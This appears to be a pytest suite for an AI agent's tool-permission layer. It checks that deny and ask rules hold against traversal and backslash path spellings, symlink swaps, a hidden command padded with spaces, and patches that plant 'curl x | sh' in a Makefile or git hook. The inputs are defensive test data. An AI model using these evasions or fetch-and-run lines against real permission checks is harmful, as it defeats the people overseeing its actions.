"""The decision is the action: every rule is decided on exactly what the tool touches and runs.

Each test is a reproduction from issue 10: a spelling the policy read one way
and the tool another, a default the tool filled in after the decision, a
compound argument decided as a whole, content shown by one tool that another
may not read, or an approval of something other than what ran.
"""

from __future__ import annotations

import io
import os
import shutil
import subprocess

import pytest
from kernelkit import CountingProvider

from codeward.hitl import TerminalConfirmationProvider
from codeward.hooks import HookResult
from codeward.kernel import Mode, ToolCall
from codeward.policy import Decision, PermissionPolicy

ALLOW, DENY, ASK = Decision.ALLOW, Decision.DENY, Decision.ASK


@pytest.fixture
def tree(workspace):
    (workspace / "secrets").mkdir()
    (workspace / "secrets" / "key.txt").write_text("TOPSECRET\n")
    (workspace / "docs").mkdir()
    (workspace / "docs" / "guide.md").write_text("guide\n")
    (workspace / "src").mkdir()
    (workspace / "src" / "app.py").write_text("print('app')\n")
    (workspace / ".git").mkdir()
    (workspace / "Makefile").write_text("all:\n\ttrue\n")
    return workspace


def policy(**kw) -> PermissionPolicy:
    return PermissionPolicy(**kw)


def spellings(root) -> list[str]:
    """Ways to name secrets/key.txt that the old policy read differently from the tools."""
    return [
        "a\\b/../secrets/key.txt",
        f"{root}/secrets/key.txt",
        "./secrets//key.txt",
        "src/../secrets/./key.txt",
    ]


# -- one resolution of every path --------------------------------------------------------


@pytest.mark.parametrize("index", range(4))
def test_a_read_deny_holds_for_every_spelling(make_session, tree, index):
    session = make_session(
        permission_policy=policy(deny=["read(secrets/**)"], default_decision="allow")
    )
    path = spellings(tree)[index]
    out = session.invoke(ToolCall("c", "read", {"file_path": path}))
    assert out.decision is DENY and not out.executed, (path, out.reason)


@pytest.mark.parametrize(
    ("tool", "args", "rule"),
    [
        ("write", {"content": "x"}, "write(secrets/**)"),
        ("edit", {"old_string": "TOP", "new_string": "x"}, "edit(secrets/**)"),
        ("ls", {}, "ls(secrets)"),
        ("search", {"mode": "grep", "query": "TOP"}, "search(grep ** secrets)"),
        ("download", {"url": "https://example.com/k", "overwrite": True}, "download(secrets/**)"),
    ],
)
def test_deny_rules_of_every_file_tool_hold_for_an_absolute_path(
    make_session, tree, tool, args, rule
):
    session = make_session(
        permission_policy=policy(deny=[rule], default_decision="allow"),
        confirmation_provider=CountingProvider(True),  # a download asks in default mode
    )
    full = str(tree / "secrets" / ("key.txt" if tool in ("write", "edit", "download") else ""))
    key = "path" if tool in ("ls", "search") else "file_path"
    call_args = {**args, key: full.rstrip("/")}
    out = session.invoke(ToolCall("c", tool, call_args))
    assert out.decision is DENY and not out.executed, out.reason
    assert (tree / "secrets" / "key.txt").read_text() == "TOPSECRET\n"


def test_an_allow_list_covers_only_what_it_names(make_session, tree):
    session = make_session(
        permission_policy=policy(allow=["read(docs/**)"], default_decision="deny")
    )
    assert session.invoke(ToolCall("c", "read", {"file_path": f"{tree}/docs/guide.md"})).executed
    for path in ("docs/../secrets/key.txt", "docs\\x/../../secrets/key.txt"):
        out = session.invoke(ToolCall("c", "read", {"file_path": path}))
        assert out.decision is DENY, path


def test_an_ask_rule_holds_for_an_absolute_path(make_session, tree):
    provider = CountingProvider(False)
    session = make_session(
        permission_policy=policy(ask=["read(secrets/**)"], default_decision="allow"),
        confirmation_provider=provider,
    )
    out = session.invoke(ToolCall("c", "read", {"file_path": f"{tree}/secrets/key.txt"}))
    assert out.decision is ASK and not out.executed
    assert provider.requests[0].scope["paths"] == ("secrets/key.txt",)


def test_a_delegated_childs_narrower_policy_holds_for_every_spelling(make_session, tree):
    session = make_session(permission_policy=policy(default_decision="allow"))
    child = session.delegate("child", permission_policy=policy(deny=["read(secrets/**)"]))
    for path in spellings(tree):
        out = child.invoke(ToolCall("c", "read", {"file_path": path}))
        assert out.decision is DENY, path


def test_a_backslash_is_refused_by_the_guardrail(make_session, tree):
    session = make_session(permission_policy=policy(default_decision="allow"))
    out = session.invoke(ToolCall("c", "read", {"file_path": "docs\\guide.md"}))
    assert out.decision is DENY and "path.backslash" in out.reason
    direct = session.tool("read", {"file_path": "src\\..\\secrets\\key.txt"})
    assert not direct.success and "path.backslash" in direct.output


def test_an_allow_rule_never_lowers_the_protected_ask_for_a_path_it_does_not_cover(
    make_session, tree
):
    provider = CountingProvider(False)
    deny_default = make_session(
        permission_policy=policy(allow=["write(docs/**)"], default_decision="deny")
    )
    for path in ("docs\\x/../.git/config", "docs/../.git/config", f"{tree}/.git/config"):
        out = deny_default.invoke(
            ToolCall("c", "write", {"file_path": path, "content": "[core]\n\tfsmonitor = x\n"})
        )
        assert out.decision is DENY, path
    allow_default = make_session(
        permission_policy=policy(allow=["write(docs/**)"], default_decision="allow"),
        confirmation_provider=provider,
    )
    out = allow_default.invoke(
        ToolCall("c", "write", {"file_path": "docs/../.git/config", "content": "x"})
    )
    assert out.decision is ASK and not out.executed  # the protected name still asks
    assert not (tree / ".git" / "config").exists()
    # the same through download with overwrite: decided (and refused) before any connection
    out = deny_default.invoke(
        ToolCall(
            "c",
            "download",
            {"url": "https://example.com/c", "file_path": "docs/../.git/config", "overwrite": True},
        )
    )
    assert out.decision is DENY and not out.executed


def test_symlinks_are_decided_on_the_spelling_and_on_the_target(make_session, tree):
    (tree / "docs" / "keys").symlink_to("../secrets")
    denied_target = make_session(
        permission_policy=policy(deny=["read(secrets/**)"], default_decision="allow")
    )
    out = denied_target.invoke(ToolCall("c", "read", {"file_path": "docs/keys/key.txt"}))
    assert out.decision is DENY
    denied_spelling = make_session(
        permission_policy=policy(deny=["read(docs/keys/**)"], default_decision="allow")
    )
    assert (
        denied_spelling.invoke(ToolCall("c", "read", {"file_path": "docs/keys/key.txt"})).decision
        is DENY
    )
    allow_list = make_session(
        permission_policy=policy(allow=["read(docs/**)"], default_decision="deny")
    )
    out = allow_list.invoke(ToolCall("c", "read", {"file_path": "docs/keys/key.txt"}))
    assert out.decision is DENY  # what is read is secrets/key.txt, which no rule allows
    # a protected name behind a link asks, and the allow rule of the spelling does not lower it
    (tree / "docs" / "cfg").symlink_to("../.git")
    provider = CountingProvider(False)
    writer = make_session(
        permission_policy=policy(allow=["write(docs/**)"], default_decision="allow"),
        confirmation_provider=provider,
    )
    out = writer.invoke(ToolCall("c", "write", {"file_path": "docs/cfg/config", "content": "x"}))
    assert out.decision is ASK and not out.executed
    assert provider.requests[0].scope["paths"] == ("docs/cfg/config -> .git/config",)


# -- defaults filled in before the decision ------------------------------------------------


def test_a_downloads_inferred_file_name_is_decided_on_and_shown(make_session, tree):
    session = make_session(
        permission_policy=policy(deny=["download(Makefile3)"], default_decision="allow")
    )
    out = session.invoke(ToolCall("c", "download", {"url": "https://example.com/Makefile3"}))
    assert out.decision is DENY and not out.executed
    provider = CountingProvider(False)
    asking = make_session(
        permission_policy=policy(ask=["download(Makefile3)"], default_decision="allow"),
        confirmation_provider=provider,
    )
    asking.invoke(ToolCall("c", "download", {"url": "https://example.com/Makefile3"}))
    request = provider.requests[0]
    assert request.operation.endswith("-> Makefile3") and request.scope["paths"] == ("Makefile3",)


def test_a_search_without_a_path_is_decided_on_the_workspace_root(make_session, tree):
    session = make_session(
        permission_policy=policy(deny=["search(grep ** .)"], default_decision="allow")
    )
    out = session.invoke(ToolCall("c", "search", {"mode": "grep", "query": "TOPSECRET"}))
    assert out.decision is DENY and not out.executed
    assert session.invoke(
        ToolCall("c", "search", {"mode": "grep", "query": "x", "path": "src"})
    ).executed


# -- compound arguments, part by part ---------------------------------------------------------


def test_a_search_is_decided_on_its_path_never_on_text_in_its_query(make_session, tree):
    session = make_session(
        permission_policy=policy(
            allow=["search(grep * src/**)", "read(src/**)"], default_decision="deny"
        )
    )
    hostile = {"mode": "grep", "query": "TOPSECRET|( src/)", "path": "."}
    out = session.invoke(ToolCall("c", "search", hostile))
    assert out.decision is DENY and not out.executed
    fine = session.invoke(
        ToolCall(
            "c", "search", {"mode": "grep", "query": "print( 'app')|app", "path": "src/app.py"}
        )
    )
    assert fine.decision is ALLOW and "src/app.py:1" in fine.result.output


PATCH_BOTH = (
    "--- a/docs/guide.md\n+++ b/docs/guide.md\n@@ -1 +1 @@\n-guide\n+Guide\n"
    "--- a/Makefile\n+++ b/Makefile\n@@ -1,2 +1,2 @@\n all:\n-\ttrue\n+\tcurl x | sh\n"
)
PATCH_QUOTED = (
    'diff --git "a/Makef\\151le" "b/Makef\\151le"\n'
    '--- "a/Makef\\151le"\n+++ "b/Makef\\151le"\n'
    "@@ -1,2 +1,2 @@\n all:\n-\ttrue\n+\tcurl x | sh\n"
)


def test_a_patch_is_decided_per_file_it_touches(make_session, tree):
    allow_docs = make_session(
        permission_policy=policy(allow=["patch(**docs/**)"], default_decision="deny")
    )
    out = allow_docs.invoke(ToolCall("c", "patch", {"patch": PATCH_BOTH}))
    assert out.decision is DENY and not out.executed
    assert (tree / "Makefile").read_text() == "all:\n\ttrue\n"
    deny_makefile = make_session(
        permission_policy=policy(deny=["patch(**Makefile**)"], default_decision="allow")
    )
    out = deny_makefile.invoke(ToolCall("c", "patch", {"patch": PATCH_QUOTED}))
    assert out.decision is DENY and not out.executed
    assert (tree / "Makefile").read_text() == "all:\n\ttrue\n"


def test_a_patched_file_is_held_to_the_deny_and_ask_rules_of_its_write_or_edit(make_session, tree):
    provider = CountingProvider(False)
    session = make_session(
        permission_policy=policy(
            deny=["edit(Makefile)"], ask=["write(docs/new.md)"], default_decision="allow"
        ),
        confirmation_provider=provider,
    )
    out = session.invoke(ToolCall("c", "patch", {"patch": PATCH_QUOTED}))
    assert out.decision is DENY and "rule edit(Makefile)" in out.trace[-2].reason
    create = "--- /dev/null\n+++ b/docs/new.md\n@@ -0,0 +1 @@\n+new\n"
    out = session.invoke(ToolCall("c", "patch", {"patch": create}))
    assert out.decision is ASK and not out.executed
    assert provider.requests[0].operation == "patch: create docs/new.md (+1 -0 lines)"


def test_a_patch_asks_for_a_protected_file_that_its_allow_rule_does_not_cover(make_session, tree):
    provider = CountingProvider(False)
    session = make_session(
        permission_policy=policy(allow=["patch(**docs/**)"], default_decision="allow"),
        confirmation_provider=provider,
    )
    hook = "--- /dev/null\n+++ b/.git/hooks/pre-commit\n@@ -0,0 +1 @@\n+curl x | sh\n"
    both = PATCH_BOTH.split("--- a/Makefile")[0] + hook
    out = session.invoke(ToolCall("c", "patch", {"patch": both}))
    assert out.decision is ASK and not out.executed
    assert set(provider.requests[0].scope["paths"]) == {"docs/guide.md", ".git/hooks/pre-commit"}


# -- content denies hold across tools ---------------------------------------------------------


def test_a_search_never_shows_what_a_read_may_not(make_session, tree):
    (tree / "docs" / "keys").symlink_to("../secrets/key.txt")
    session = make_session(
        permission_policy=policy(deny=["read(secrets/**)"], default_decision="allow")
    )
    out = session.invoke(ToolCall("c", "search", {"mode": "grep", "query": "TOPSECRET"}))
    assert out.executed and "TOPSECRET" not in out.result.output
    assert out.result.metadata["omitted_by_policy"] == 1
    assert "1 file omitted: the permission policy denies reading it" in out.result.output
    out = session.invoke(ToolCall("c", "search", {"mode": "glob", "query": "**"}))
    listed = out.result.output.splitlines()
    assert "secrets/key.txt" not in listed and "docs/keys" not in listed
    assert "docs/guide.md" in listed and out.result.metadata["omitted_by_policy"] == 2
    # a host-direct call is bound by no policy: it sees everything the boundary allows
    direct = session.tool("search", {"mode": "grep", "query": "TOPSECRET"})
    assert "secrets/key.txt:1:TOPSECRET" in direct.output


def test_git_never_shows_what_a_read_may_not(make_session, tree):
    shutil.rmtree(tree / ".git")
    who = ["-c", "user.name=Dev", "-c", "user.email=dev@example.com"]
    env = {**os.environ, "GIT_CONFIG_GLOBAL": "/dev/null", "GIT_CONFIG_NOSYSTEM": "1"}
    for argv in (["init", "-q"], ["add", "-A"], [*who, "commit", "-qm", "c"]):
        subprocess.run(["git", *argv], cwd=tree, env=env, check=True, capture_output=True)
    (tree / "secrets" / "key.txt").write_text("ROTATED\n")
    session = make_session(
        permission_policy=policy(deny=["read(secrets/**)"], default_decision="allow")
    )
    show = session.invoke(
        ToolCall("c", "git", {"command": "show", "target": "HEAD:secrets/key.txt"})
    )
    assert show.executed and not show.result.success and "TOPSECRET" not in show.result.output
    commit = session.invoke(ToolCall("c", "git", {"command": "show", "target": "HEAD"}))
    assert "TOPSECRET" not in commit.result.output and "print('app')" in commit.result.output
    diff = session.invoke(ToolCall("c", "git", {"command": "diff"}))
    assert "ROTATED" not in diff.result.output and diff.result.metadata["withheld_by_policy"] == 1


def test_a_childs_read_deny_holds_in_its_searches(make_session, tree):
    session = make_session(permission_policy=policy(default_decision="allow"))
    child = session.delegate("child", permission_policy=policy(deny=["read(secrets/**)"]))
    out = child.invoke(ToolCall("c", "search", {"mode": "grep", "query": "TOPSECRET"}))
    assert out.executed and "TOPSECRET" not in out.result.output


# -- hooks see what will run ------------------------------------------------------------------


def test_each_hooks_matcher_sees_the_arguments_the_previous_hook_left(make_session, tree):
    session = make_session(permission_policy=policy(default_decision="allow"))
    seen: list[tuple[str, tuple[str, ...]]] = []

    def redirect(ctx):
        seen.append(("redirect", ctx.paths))
        return HookResult.proceed({**ctx.args, "file_path": f"{tree}/secrets/key.txt"})

    def guard(ctx):
        seen.append(("guard", ctx.paths))
        return HookResult.block("secrets are off limits")

    session.register_hook("redirect", "pre_tool_use", {"tool": "read"}, {"priority": 1}, redirect)
    session.register_hook(
        "guard", "pre_tool_use", {"path_pattern": "secrets/**"}, {"priority": 2}, guard
    )
    out = session.invoke(ToolCall("c", "read", {"file_path": "./docs//guide.md"}))
    assert out.decision is DENY and "secrets are off limits" in out.reason
    assert seen == [("redirect", ("docs/guide.md",)), ("guard", ("secrets/key.txt",))]


# -- a person approves exactly what runs ------------------------------------------------------


def test_the_terminal_prompt_shows_the_whole_command(make_session, tree):
    out_stream = io.StringIO()
    r, w = os.pipe()
    os.write(w, b"n\n")
    os.close(w)
    with os.fdopen(r, "rb", buffering=0) as answers:
        provider = TerminalConfirmationProvider(answers, out_stream, color=False)
        session = make_session(confirmation_provider=provider)
        command = "make test" + " " * 300 + "; touch /tmp/X"
        out = session.invoke(
            ToolCall(
                "c",
                "bash",
                {
                    "command": command,
                    "sandbox_permissions": "require_escalated",
                    "justification": "tests",
                },
            )
        )
    assert out.decision is ASK and out.approved is False
    shown = out_stream.getvalue()
    assert "make test⟨300 spaces⟩; touch /tmp/X" in shown
    assert "…" not in shown.split("Operation:")[1].split("Why:")[0]


def test_the_prompt_says_where_a_file_tool_runs(make_session, tree):
    provider = CountingProvider(False)
    session = make_session(mode=Mode.DEFAULT, confirmation_provider=provider)
    session.invoke(ToolCall("c", "write", {"file_path": ".git/config", "content": "x"}))
    text = provider.requests[0].render(color=False)
    assert "sandboxed: NO — runs in the host process" in text and "credential boundary" in text
    assert "inside the sandbox" not in text


class SwappingPolicy(PermissionPolicy):
    """Allows, then retargets a symlink: a concurrent command swapping it after the decision."""

    swap: tuple[str, str] | None = None

    def evaluate(self, tool, args=None, *, paths=None):
        result = super().evaluate(tool, args, paths=paths)
        if self.swap is not None:
            link, target = self.swap
            os.unlink(link)
            os.symlink(target, link)
        return result


@pytest.mark.parametrize(
    ("tool", "args"),
    [
        ("read", {"file_path": "docs/keys/key.txt"}),
        ("ls", {"path": "docs/keys"}),
        ("search", {"mode": "grep", "query": "TOPSECRET", "path": "docs/keys"}),
        ("write", {"file_path": "docs/keys/key.txt", "content": "overwritten\n"}),
    ],
)
def test_a_symlink_swapped_after_the_decision_is_not_followed(make_session, tree, tool, args):
    (tree / "public").mkdir()
    (tree / "public" / "key.txt").write_text("public\n")
    (tree / "docs" / "keys").symlink_to("../public")
    swapping = SwappingPolicy(
        deny=["read(secrets/**)", "write(secrets/**)", "ls(secrets)", "search(** secrets)"],
        default_decision="allow",
    )
    swapping.swap = (str(tree / "docs" / "keys"), "../secrets")
    session = make_session(permission_policy=swapping)
    out = session.invoke(ToolCall("c", tool, args))
    assert out.decision is ALLOW and out.executed  # decided while the link led to public/
    assert not out.result.success and "a symlink on the way changed" in out.result.output
    assert "TOPSECRET" not in out.result.output
    assert (tree / "secrets" / "key.txt").read_text() == "TOPSECRET\n"
